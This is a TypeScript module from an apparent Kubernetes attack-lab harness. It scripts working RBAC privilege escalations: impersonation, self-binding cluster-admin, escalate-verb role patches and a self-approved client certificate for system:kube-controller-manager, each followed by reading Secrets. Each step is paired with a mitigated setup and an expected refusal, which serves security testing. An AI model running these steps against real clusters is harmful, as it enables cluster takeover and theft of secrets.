/** How one identity becomes another, or gives itself more rights. */
import "reflect-metadata";
import * as x509 from "@peculiar/x509";
import { stringAt } from "@redoubt/kube";
import { ApiClient } from "../api-client.ts";
import { type AttackLab, type LabRule, messageOf, rule, whoAmI } from "../attack-lab.ts";
import { type AttackStep, type Outcome, type Scene, answered, secretOf, victimOf } from "./attack-step.ts";
import { secretNamed, valueOf } from "./secrets.ts";

const RBAC = "rbac.authorization.k8s.io";
const CERTIFICATES = "certificates.k8s.io";
const REQUESTS = `/apis/${CERTIFICATES}/v1/certificatesigningrequests`;
const KUBE_SYSTEM_SECRETS = "/api/v1/namespaces/kube-system/secrets";
const EVERYTHING = { rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }] };
const MANAGER = "system:kube-controller-manager";

/** Whom the API server takes a client for. */
async function identityOf(client: ApiClient): Promise<Outcome> {
  const answer = await client.post("/apis/authentication.k8s.io/v1/selfsubjectreviews", {});
  client.close();
  return answered(answer, (body) => stringAt(body, ["status", "userInfo", "username"]) ?? "");
}

async function readsKubeSystem(client: ApiClient): Promise<Outcome> {
  const answer = await client.get(KUBE_SYSTEM_SECRETS);
  client.close();
  return answered(answer, () => "read");
}

/** Waits until a right that the attacker has given itself is in force. */
async function afterwards(lab: AttackLab): Promise<Outcome> {
  await lab.until(async () => (await lab.attacker.get(KUBE_SYSTEM_SECRETS)).status === 200);
  return { got: "read" };
}

async function readsHere(lab: AttackLab): Promise<Outcome> {
  const read = (): ReturnType<typeof lab.attacker.get> => lab.attacker.get(lab.path("secrets/loot"));
  await lab.until(async () => (await read()).status === 200);
  return { got: valueOf((await read()).body, "word") };
}

export const IDENTITY_STEPS: readonly AttackStep[] = [
  {
    name: "as-account",
    kinds: ["impersonate-account"],
    does: "sends a request as the victim",
    mitigation: "the rule names another ServiceAccount",
    setup: (mitigated) => ({ rights: [rule("impersonate", "serviceaccounts", "", mitigated ? ["attacker"] : [])] }),
    walk: ["holds-role", "impersonate-account", "use-power"],
    to: victimOf,
    attempt: ({ lab }) => identityOf(lab.attackerAs(lab.victim)),
    gets: ({ lab }) => lab.victim,
    refusal: /^403 .*cannot impersonate resource "serviceaccounts"/,
  },
  {
    name: "as-user",
    kinds: ["impersonate-user"],
    does: "reads the Secrets of kube-system as system:kube-controller-manager",
    mitigation: "the rule names another user",
    setup: (mitigated) => ({
      clusterRights: [rule("impersonate", "users", "", mitigated ? ["somebody-else"] : [])],
    }),
    walk: ["holds-role", "impersonate-user", "use-power"],
    to: () => `user:${MANAGER}`,
    attempt: ({ lab }) => readsKubeSystem(lab.attackerAs(MANAGER)),
    gets: () => "read",
    refusal: /^403 .*cannot impersonate resource "users"/,
  },
  {
    name: "as-group",
    kinds: ["impersonate-group"],
    does: "reads the Secrets of kube-system as a member of system:masters",
    mitigation: "no right to impersonate groups",
    setup: (mitigated) => ({
      clusterRights: [
        rule("impersonate", mitigated ? "users" : "users groups", "", mitigated ? ["somebody-else"] : []),
      ],
    }),
    walk: ["holds-role", "impersonate-group", "all-rights"],
    to: () => "cluster-admin",
    attempt: ({ lab }) => readsKubeSystem(lab.attackerAs("somebody-else", "system:masters")),
    gets: () => "read",
    refusal: /^403 .*cannot impersonate resource "groups"/,
  },
  {
    name: "bind-role",
    kinds: ["bind-role"],
    does: "binds cluster-admin to itself and reads the Secrets of kube-system",
    mitigation: "no right to bind ClusterRoles",
    setup: (mitigated) => ({
      clusterRights: [
        rule("create", "clusterrolebindings", RBAC),
        ...(mitigated ? [] : [rule("bind", "clusterroles", RBAC)]),
      ],
    }),
    walk: ["holds-role", "bind-role"],
    to: () => "cluster-admin",
    attempt: async ({ lab }) => {
      const answer = await lab.attacker.post(`/apis/${RBAC}/v1/clusterrolebindings`, {
        metadata: { name: `${lab.namespace}-grab` },
        roleRef: { apiGroup: RBAC, kind: "ClusterRole", name: "cluster-admin" },
        subjects: [{ kind: "ServiceAccount", namespace: lab.namespace, name: "attacker" }],
      });
      return answer.status === 201 ? afterwards(lab) : { refused: messageOf(answer) };
    },
    gets: () => "read",
    refusal: /^403 .*attempting to grant RBAC permissions not currently held/s,
  },
  {
    name: "bind-here",
    kinds: ["bind-role"],
    does: "binds cluster-admin to itself in its namespace and reads the Secrets there",
    mitigation: "it may bind another ClusterRole",
    setup: (mitigated) => ({
      rights: [
        rule("create", "rolebindings", RBAC),
        rule("bind", "clusterroles", RBAC, [mitigated ? "view" : "cluster-admin"]),
      ],
    }),
    stage: ({ lab }) => lab.make("secrets", secretNamed("loot")),
    walk: ["holds-role", "bind-role", "all-rights", "use-power", "use-power"],
    to: secretOf("loot"),
    attempt: async ({ lab }) => {
      const answer = await lab.attacker.post(lab.path("rolebindings", `${RBAC}/v1`), {
        metadata: { name: "grab" },
        roleRef: { apiGroup: RBAC, kind: "ClusterRole", name: "cluster-admin" },
        subjects: [{ kind: "ServiceAccount", namespace: lab.namespace, name: "attacker" }],
      });
      return answer.status === 201 ? readsHere(lab) : { refused: messageOf(answer) };
    },
    gets: () => "open sesame",
    refusal: /^403 .*attempting to grant RBAC permissions not currently held/s,
  },
  {
    name: "escalate-here",
    kinds: ["escalate-role"],
    does: "adds every right to a Role that it holds and reads the Secrets of its namespace",
    mitigation: "no right to escalate",
    setup: (mitigated) => ({ rights: [rule(mitigated ? "get patch" : "get patch escalate", "roles", RBAC)] }),
    stage: ({ lab }) => lab.make("secrets", secretNamed("loot")),
    walk: ["holds-role", "escalate-role", "use-power", "use-power"],
    to: secretOf("loot"),
    attempt: async ({ lab }) => {
      const path = lab.path(`roles/${lab.namespace}-attacker`, `${RBAC}/v1`);
      const answer = await lab.attacker.send("PATCH", path, EVERYTHING, "application/merge-patch+json");
      return answer.status === 200 ? readsHere(lab) : { refused: messageOf(answer) };
    },
    gets: () => "open sesame",
    refusal: /^403 .*attempting to grant RBAC permissions not currently held/s,
  },
  {
    name: "escalate-role",
    kinds: ["escalate-role"],
    does: "adds every right to a ClusterRole that it holds and reads the Secrets of kube-system",
    mitigation: "no right to escalate",
    setup: (mitigated) => ({
      clusterRights: [rule(mitigated ? "get patch" : "get patch escalate", "clusterroles", RBAC)],
    }),
    walk: ["holds-role", "escalate-role"],
    to: () => "cluster-admin",
    attempt: async ({ lab }) => {
      const path = `/apis/${RBAC}/v1/clusterroles/${lab.namespace}-attacker`;
      const answer = await lab.attacker.send("PATCH", path, EVERYTHING, "application/merge-patch+json");
      return answer.status === 200 ? afterwards(lab) : { refused: messageOf(answer) };
    },
    gets: () => "read",
    refusal: /^403 .*attempting to grant RBAC permissions not currently held/s,
  },
  {
    name: "certificate",
    kinds: ["client-certificate"],
    does: "requests a client certificate in another's name, approves it, and logs in with it",
    mitigation: "the right to approve is for another signer",
    setup: (mitigated) => ({ clusterRights: certificateRights(mitigated) }),
    walk: ["holds-role", "client-certificate", "use-power"],
    to: () => `user:${MANAGER}`,
    attempt: logInByCertificate,
    gets: () => MANAGER,
    refusal: /^403 .*user not permitted to approve requests with signerName/,
  },
];

function certificateRights(mitigated: boolean): readonly LabRule[] {
  return [
    rule("create get", "certificatesigningrequests", CERTIFICATES),
    rule("update", "certificatesigningrequests/approval", CERTIFICATES),
    rule("approve", "signers", CERTIFICATES, [mitigated ? "example.com/other" : "kubernetes.io/kube-apiserver-client"]),
  ];
}

async function logInByCertificate({ lab }: Scene): Promise<Outcome> {
  const { attacker, plane, namespace: name } = lab;
  const algorithm = { name: "ECDSA", namedCurve: "P-256", hash: "SHA-256" };
  const keys = await crypto.subtle.generateKey(algorithm, true, ["sign", "verify"]);
  const csr = await x509.Pkcs10CertificateRequestGenerator.create({
    name: `CN=${MANAGER}`,
    keys,
    signingAlgorithm: algorithm,
  });
  const { body } = await attacker.post(REQUESTS, {
    metadata: { name },
    spec: {
      request: Buffer.from(csr.toString("pem")).toString("base64"),
      signerName: "kubernetes.io/kube-apiserver-client",
      usages: ["client auth"],
    },
  });
  const conditions = [{ type: "Approved", status: "True", reason: "Test", message: "by itself" }];
  const approval = await attacker.put(`${REQUESTS}/${name}/approval`, { ...Object(body), status: { conditions } });
  if (approval.status !== 200) return { refused: messageOf(approval) };
  const issued = async (): Promise<string> =>
    stringAt((await attacker.get(`${REQUESTS}/${name}`)).body, ["status", "certificate"]) ?? "";
  await lab.until(async () => (await issued()) !== "");
  const key = x509.PemConverter.encode(await crypto.subtle.exportKey("pkcs8", keys.privateKey), "PRIVATE KEY");
  const certificate = Buffer.from(await issued(), "base64").toString();
  const client = new ApiClient({ url: plane.url, ca: plane.ca.certificate, clientCertificate: { certificate, key } });
  const got = await whoAmI(client);
  client.close();
  return { got };
}
